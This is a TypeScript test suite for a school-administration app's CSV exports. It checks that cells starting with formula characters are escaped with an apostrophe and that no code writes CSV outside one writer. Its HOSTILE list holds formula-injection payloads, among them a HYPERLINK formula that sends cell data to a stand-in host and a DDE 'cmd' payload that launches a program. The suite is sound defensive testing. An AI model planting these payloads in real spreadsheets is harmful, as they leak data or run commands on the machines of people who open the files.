import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';
import Papa from 'papaparse';
import { HostClient } from '../helpers/api';
import { readSheet } from '../../main/exchange/read';
import { ROSTER_TABLES } from '../../main/exchange/roster-tables';
import { writeTable } from '../../main/exchange/writers';
import { startHost, type RunningHost } from '../helpers/browser';

// Formula injection (issue 11, part 5): every CSV the program writes goes through main/kernel/csv.ts, which
// prefixes a cell beginning with = + - @, a tab or a carriage return with «'», so a spreadsheet shows it as text.
// The exports are listed here one by one; the source scan below fails when a file writes CSV some other way,
// so a new export has to be added to EXPORTS (and written with the one writer) before this test passes.

const ROOT = path.resolve(__dirname, '..', '..');
const HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&A1;"Открыть")', "=cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A9)', '-2+3'];
const DANGEROUS = /^[=+\-@\t\r]/;

let host: RunningHost;
let admin: HostClient;
let deputy: HostClient;

before(async () => {
  host = await startHost({ demo: true });
  admin = await new HostClient(host.url).open();
  deputy = await new HostClient(host.url).open();
  // The audit log records the login name of a failed attempt as the actor, whoever typed it.
  for (const login of HOSTILE) {
    const r = await admin.raw('auth.login', { login, password: 'неверный-пароль' });
    assert.equal(r.ok, false);
  }
  await admin.login('admin', 'demo-parol-2025');
  await deputy.login('zavuch', 'demo-parol-2025');
});

after(async () => {
  await host?.stop();
});

function cells(csv: Buffer): string[][] {
  const text = csv.toString('utf8').replace(/^\uFEFF/, '');
  const parsed = Papa.parse<string[]>(text, { delimiter: ';', skipEmptyLines: true });
  assert.deepEqual(parsed.errors, []);
  return parsed.data;
}

/** Every export that writes CSV, with the source files that produce it. */
const EXPORTS: { name: string; sources: string[]; produce(): Promise<Buffer> }[] = [
  {
    name: 'audit.export (журнал аудита)',
    sources: ['main/accounts/audit-export.ts'],
    async produce() {
      const r = await admin.call('audit.export', {});
      return Buffer.from(r.base64, 'base64');
    },
  },
  {
    name: 'plans.export csv (тематическое планирование)',
    sources: ['main/timetable/plan-file.ts'],
    async produce() {
      const yearId = (await deputy.call('years.list', {})).find((y: { name: string }) => y.name === '2025/2026')!.id;
      const subjectId = (await deputy.call('subjects.list', {})).find((s: { name: string }) => s.name === 'Математика')!.id;
      const rows = HOSTILE.map(
        (t, i) => `${i + 1};"${t.replace(/"/g, '""')}";1;урок;"${HOSTILE[(i + 1) % HOSTILE.length].replace(/"/g, '""')}"`,
      );
      const file = Buffer.from(['№;Тема;Часы;Вид;Домашнее задание', ...rows].join('\r\n'), 'utf8');
      await deputy.call('plans.import', {
        yearId,
        subjectId,
        grade: 5,
        classId: null,
        name: 'КТП с формулами',
        file: { name: 'ktp.csv', base64: file.toString('base64') },
      });
      const plan = (await deputy.call('plans.list', { yearId })).find((p: { name: string }) => p.name === 'КТП с формулами');
      assert.ok(plan);
      const r = await deputy.call('plans.export', { id: plan.id, format: 'csv' });
      // and an exported plan imports back unchanged
      await deputy.call('plans.import', {
        yearId,
        subjectId,
        grade: 6,
        classId: null,
        name: 'КТП обратно',
        file: { name: 'back.csv', base64: r.base64 },
      });
      const back = (await deputy.call('plans.list', { yearId })).find((p: { name: string }) => p.name === 'КТП обратно');
      assert.ok(back);
      const topics = (await deputy.call('plans.get', { id: back.id })).topics.map((t: { title: string }) => t.title);
      assert.deepEqual(topics, HOSTILE);
      return Buffer.from(r.base64, 'base64');
    },
  },
  {
    // The roster's tables (issue 16): what the import's round trip writes, through the exports' one writer.
    name: 'roster students csv (ученики в столбцах шаблона импорта)',
    sources: ['main/exchange/writers.ts'],
    async produce() {
      const rows = HOSTILE.map((h, i) => ({ class: '5А', last_name: h, first_name: HOSTILE[(i + 1) % HOSTILE.length], g1_phone: h }));
      const csv = await writeTable(ROSTER_TABLES.students, rows, 'csv');
      // and it reads back unchanged
      const sheet = await readSheet('ученики.csv', csv);
      assert.deepEqual(
        sheet.rows.map((r) => r.cells[1]),
        HOSTILE,
      );
      return csv;
    },
  },
  {
    name: 'export.list csv (выгрузки списков и учебного года)',
    sources: ['main/exchange/writers.ts'],
    async produce() {
      const yearId = (await deputy.call('years.list', {})).find((y: { name: string }) => y.name === '2025/2026')!.id;
      // Staff cards whose name and position are formulas: the staff list's export keeps them behind «'».
      for (const [i, h] of HOSTILE.entries())
        await deputy.call('staff.save', {
          id: null,
          last_name: h,
          first_name: 'Формула',
          middle_name: '',
          position: HOSTILE[(i + 1) % HOSTILE.length],
          snils: null,
          phone: '',
          email: '',
        });
      const r = await deputy.call('export.list', { yearId, list: 'staff', format: 'csv', classId: null });
      return Buffer.from(r.base64, 'base64');
    },
  },
];

for (const e of EXPORTS) {
  test(`CSV export ${e.name}: no cell starts a formula; hostile text is kept behind «'»`, async () => {
    const rows = cells(await e.produce());
    assert.ok(rows.length > 1);
    for (const row of rows) for (const c of row) assert.doesNotMatch(c, DANGEROUS, `cell ${JSON.stringify(c)}`);
    const all = new Set(rows.flat());
    for (const h of HOSTILE) assert.ok(all.has(`'${h}`), `${JSON.stringify(h)} is exported as '${h}`);
  });
}

test('every file that writes CSV is one of the exports above, and only main/kernel/csv.ts serialises it', () => {
  const listed = new Set(EXPORTS.flatMap((e) => e.sources));
  const found: string[] = [];
  const walk = (dir: string) => {
    for (const d of fs.readdirSync(path.join(ROOT, dir), { withFileTypes: true })) {
      const rel = path.join(dir, d.name);
      if (d.isDirectory()) walk(rel);
      else if (/\.tsx?$/.test(d.name)) {
        const src = fs.readFileSync(path.join(ROOT, rel), 'utf8');
        // a hand-made CSV row, papaparse's writer, or a CSV blob made in the page
        if (rel !== path.join('main', 'kernel', 'csv.ts') && /\.join\(\s*['"][;,\t]['"]\s*\)|\bunparse\(|text\/csv;/.test(src))
          found.push(rel);
        if (/\b(csvFile|csvText)\(/.test(src) && rel !== path.join('main', 'kernel', 'csv.ts') && !listed.has(rel))
          found.push(`${rel} (uses the writer but is not in EXPORTS)`);
      }
    }
  };
  for (const dir of ['main', 'renderer', 'preload']) walk(dir);
  // Not CSV files: main/school/years.ts joins grade numbers with ',' for a setting; main/backup/pg-tools.ts joins a
  // connection's hosts and ports with ',' as libpq's PGHOST/PGPORT take them.
  const notCsv = new Set([path.join('main', 'school', 'years.ts'), path.join('main', 'backup', 'pg-tools.ts')]);
  assert.deepEqual(
    found.filter((f) => !notCsv.has(f)),
    [],
  );
});
